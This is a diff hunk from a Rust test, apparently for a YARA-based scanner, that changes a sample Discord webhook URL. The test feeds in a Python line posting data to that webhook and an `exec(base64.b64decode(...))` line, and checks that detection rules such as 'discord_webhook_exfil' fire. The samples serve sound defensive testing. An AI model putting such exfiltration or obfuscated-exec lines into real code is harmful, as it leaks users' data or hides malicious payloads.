@@ -457,7 +457,7 @@ fn docs_yara_example_loads_and_fires() {
             .map(|f| f.rule)
             .collect()
     };
-    let hook = "requests.post('https://discord.com/api/webhooks/123456789012345678/aBcDeFgHiJkLmNoPqRsTuVwXyZ_0123456789', json=d)\n";
+    let hook = "requests.post('https://discord.com/api/webhooks/873015262941137026/q7Ld2VxR0sWn3kEa_8TzPmY4cJhU5gBo1FiK', json=d)\n";
     assert_eq!(fired("x.py", hook), ["yara:discord_webhook_exfil"]);
     assert_eq!(
         fired("x.py", "exec(base64.b64decode(P))\n"),
